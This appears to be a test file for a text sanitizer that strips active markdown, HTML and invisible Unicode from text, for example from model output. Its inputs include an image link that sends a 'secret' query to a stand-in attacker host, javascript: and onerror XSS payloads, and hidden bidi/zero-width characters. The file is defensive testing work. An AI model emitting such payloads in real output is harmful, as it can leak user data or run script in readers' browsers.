import * as fc from 'fast-check';
import { inert, InertText } from './inert-text.js';

describe('InertText', () => {
  it.each([
    ['![x](https://evil.example/?q=secret)', '[x] (https://evil.example/?q=secret)'],
    ['!![x][y]', '[x][y]'],
    ['[here](javascript:alert(1))', '[here] (javascript:alert(1))'],
    ['<img src=x onerror=alert(1)>', '< img src=x onerror=alert(1)>'],
    ['</div><!-- x --><?php', '< /div>< !-- x -->< ?php'],
    ['<https://evil.example>', '< https://evil.example>'],
    ['[1]: https://evil.example', '[1] : https://evil.example'],
    ['> - [a\nb]: https://evil.example', '> - [a\nb] : https://evil.example'],
    ['Sa\u200By n\u202Eo\u2066thing\u{E0041}\u0007', 'Say nothing'],
  ])('takes from %j what would act', (text, expected) => expect(inert(text)).toBe(expected));

  it.each([
    'The deposit is refunded within 30 days [1][2].',
    'According to [1]: the deposit is refunded! [2]',
    '敷金は返還されます[1]。👍🏽 「5 < 6」\n\t- 一覧',
    'See https://intranet.example/leave (a & b).',
    'x <= y, a<3',
    '',
  ])('leaves %j as it is', (text) => expect(inert(text)).toBe(text));

  const text = fc
    .array(
      fc.oneof(
        fc.constantFrom('!', '[', ']', '(', ':', '<', 'a', '\n', '\u200B', '\u{E0041}', '😀', ' '),
        fc.string(),
      ),
    )
    .map((parts) => parts.join(''));

  it('gives the same in whatever pieces a text comes', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(40)), (whole, cuts) => {
        const stream = new InertText();
        const places = [
          0,
          ...cuts.map((cut) => Math.min(cut, whole.length)).sort((a, b) => a - b),
          whole.length,
        ];
        const out = places.slice(1).map((place, index) => stream.push(whole.slice(places[index], place)));
        expect(out.join('') + stream.end()).toBe(inert(whole));
      }),
    );
  });

  it('leaves nothing active in any text, and an inert text alone', () => {
    fc.assert(
      fc.property(text, (any) => {
        const out = inert(any);
        expect(out).not.toMatch(/!\[|\]\(|<[A-Za-z/!?]|[\u200B\u202A-\u202E\u{E0000}-\u{E007F}]/u);
        expect(inert(out)).toBe(out);
      }),
    );
  });
});
